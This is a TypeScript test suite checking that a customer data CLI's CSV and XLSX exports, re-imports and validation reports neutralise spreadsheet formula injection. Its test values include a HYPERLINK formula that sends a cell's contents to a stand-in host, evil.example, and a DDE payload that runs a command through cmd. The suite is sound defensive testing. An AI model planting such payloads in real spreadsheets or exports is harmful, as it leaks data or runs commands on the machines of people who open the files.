import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startSandbox } from "../../src/sandbox/server.js";
import type { Sandbox } from "../../src/sandbox/server.js";
import type { CustomerPayload } from "../../src/customers/types.js";
import { runCli, sandboxEnv, tempDir } from "../helpers/cli.js";

/** Cells a spreadsheet program would run as a formula (OWASP "CSV injection"), and their neighbours. */
const VALUES: [string, string][] = [
  ["a HYPERLINK formula", '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'],
  ["a sum", "=1+1"],
  ["a DDE payload", "=cmd|' /C calc'!A0"],
  ["a phone with +84", "+84 933 456 789"],
  ["a minus", "-5"],
  ["an @ function", "@SUM(A1)"],
  ["a leading tab", "\t=1+1"],
  ["a leading CR", "\r=1+1"],
  ["an apostrophe already before =", "'=1+1"],
  ["a plus inside the text", "Công ty A+B"],
];
// Found by this suite: leading spaces before a formula were exported as they were, and a spreadsheet
// that trims cells on import (Google Sheets, LibreOffice's "trim spaces") runs them.
const LEADING_SPACES: [string, string] = ["leading spaces before =", "  =1+1"];

const LIVE = /^[=+\-@\t\r]/;
const TEXT_FIELDS = ["Name", "Tag", "Street address", "Contact 1 name", "Bank 1 name"] as const;

function customer(index: number, value: string): CustomerPayload {
  return {
    general_info: { name: value, customer_code: `X${String(index).padStart(3, "0")}`, type: "company", custom_tag: value, contact_persons: [{ name: value }] },
    address: { address: value },
    bank_accounts: [{ bank_name: value, account_number: "0071001234567890" }],
  };
}

/** A shared string as Excel shows it: OOXML escapes such as _x000D_ (CR) decoded. */
const ooxmlText = (value: ExcelJS.CellValue) => String(value).replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));

const fieldsOf = (c: CustomerPayload | undefined) => [c?.general_info.name, c?.general_info.custom_tag, c?.address?.address, c?.general_info.contact_persons?.[0]?.name, c?.bank_accounts?.[0]?.bank_name];

describe("export safety: formula-like cells", () => {
  const all = [...VALUES, LEADING_SPACES];
  let source: Sandbox;
  let csvRows: Record<string, string>[] = [];
  const xlsxCells: Map<string, ExcelJS.CellValue[]> = new Map();
  const reimported: Record<"csv" | "xlsx", Sandbox | undefined> = { csv: undefined, xlsx: undefined };
  let close = async () => {};

  beforeAll(async () => {
    const dir = await tempDir("finan-bulk-export-safety-");
    source = await startSandbox({ port: 0 });
    reimported.csv = await startSandbox({ port: 0 });
    reimported.xlsx = await startSandbox({ port: 0 });
    close = async () => {
      for (const sandbox of [source, reimported.csv, reimported.xlsx]) await sandbox?.close();
      await dir.cleanup();
    };
    all.forEach(([, value], index) => source.store.insert(customer(index, value), new Date().toISOString()));
    for (const format of ["csv", "xlsx"] as const) {
      const file = join(dir.path, `export.${format}`);
      expect((await runCli(["export", file, "--rate", "0"], { env: sandboxEnv(source) })).code).toBe(0);
      const imported = await runCli(["import", file, "--mode", "create", "--rate", "0", "--report", join(dir.path, `${format}.report.csv`)], { env: sandboxEnv(reimported[format]!) });
      expect(imported.code, imported.stderr).toBe(0);
    }
    csvRows = parse(await readFile(join(dir.path, "export.csv"), "utf8"), { bom: true, columns: true }) as Record<string, string>[];
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(dir.path, "export.xlsx"));
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).map(String);
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      const code = row.getCell(header.indexOf("Customer code")).value;
      xlsxCells.set(String(code), TEXT_FIELDS.map((field) => row.getCell(header.indexOf(field)).value));
    });
  }, 60_000);
  afterAll(() => close());

  const exported = (index: number) => csvRows.find((row) => row["Customer code"] === `X${String(index).padStart(3, "0")}`);

  const code = (index: number) => `X${String(index).padStart(3, "0")}`;

  it.each(VALUES.map(([what, value], index) => [what, index, value] as const))("%s: no CSV cell is live, even trimmed; import reads the CSV back unchanged; the XLSX cell is that text", (_what, index, value) => {
    const row = exported(index);
    expect(row).toBeDefined();
    for (const field of TEXT_FIELDS) {
      expect(row?.[field], field).not.toMatch(LIVE);
      expect(row?.[field]?.trimStart(), field).not.toMatch(LIVE);
    }
    expect(fieldsOf(reimported.csv?.store.byCode(code(index)))).toEqual(TEXT_FIELDS.map(() => value));
    // an XLSX line break is LF, as Excel writes it (a CR showed as _x000D_ in LibreOffice); a value that
    // itself starts with the guard's apostrophe gets one more, as the import removes one in a workbook too
    const written = value.startsWith("'") ? `'${value}` : value;
    expect(xlsxCells.get(code(index))?.map(ooxmlText)).toEqual(TEXT_FIELDS.map(() => written.replace(/\r\n?/g, "\n")));
  });

  // Our import trims cells (SPEC "Cells"), so an XLSX value that starts with a tab or CR comes back trimmed.
  const untrimmed = VALUES.map(([what, value], index) => [what, index, value] as const).filter(([, , value]) => value.trim() === value);
  it.each(untrimmed.filter(([, , value]) => !value.startsWith("'")))("%s: import reads the XLSX back unchanged", (_what, index, value) => {
    expect(fieldsOf(reimported.xlsx?.store.byCode(code(index)))).toEqual(TEXT_FIELDS.map(() => value));
  });

  // Found by this suite: the importer removed an apostrophe before =+-@ in every format, but the XLSX
  // export never adds one, so a value that really started with '= lost it.
  it.each(untrimmed.filter(([, , value]) => value.startsWith("'")))("%s: import reads the XLSX back unchanged", (_what, index, value) => {
    expect(fieldsOf(reimported.xlsx?.store.byCode(code(index)))).toEqual(TEXT_FIELDS.map(() => value));
  });

  it(`${LEADING_SPACES[0]}: no CSV cell is live, even trimmed, and import reads it back unchanged`, () => {
    const index = all.length - 1;
    const row = exported(index);
    for (const field of TEXT_FIELDS) expect(row?.[field]?.trimStart(), field).not.toMatch(LIVE);
    expect(fieldsOf(reimported.csv?.store.byCode(code(index)))).toEqual(TEXT_FIELDS.map(() => LEADING_SPACES[1]));
  });

  it("writes no formula into the XLSX: every cell of every customer is plain text", () => {
    expect(xlsxCells.size).toBe(all.length);
    for (const cells of xlsxCells.values()) for (const cell of cells) expect(typeof cell).toBe("string");
  });
});

describe("report safety: the report echoes the input's cells", () => {
  // Found by this suite: reports were written without the export's apostrophe, so a formula in the input
  // came back live in the CSV report the user opens in Excel to fix rows.
  it("no cell of a CSV report is live", async () => {
    const dir = await tempDir("finan-bulk-report-safety-");
    const sandbox = await startSandbox({ port: 0 });
    try {
      const input = join(dir.path, "in.csv");
      const cells = VALUES.map(([, value], index) => [`R${index}`, value, "personal"]);
      const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
      await writeFile(input, `Customer code,Name,Type\r\n${cells.map((row) => row.map(quote).join(",")).join("\r\n")}\r\n`);
      expect((await runCli(["validate", input], { env: sandboxEnv(sandbox) })).code).toBe(0);
      const rows = parse(await readFile(join(dir.path, "in.check.csv"), "utf8"), { bom: true, columns: true }) as Record<string, string>[];
      expect(rows.map((row) => row.Name).filter((name) => LIVE.test(name ?? "") || LIVE.test(name?.trimStart() ?? ""))).toEqual([]);
    } finally {
      await sandbox.close();
      await dir.cleanup();
    }
  });
});
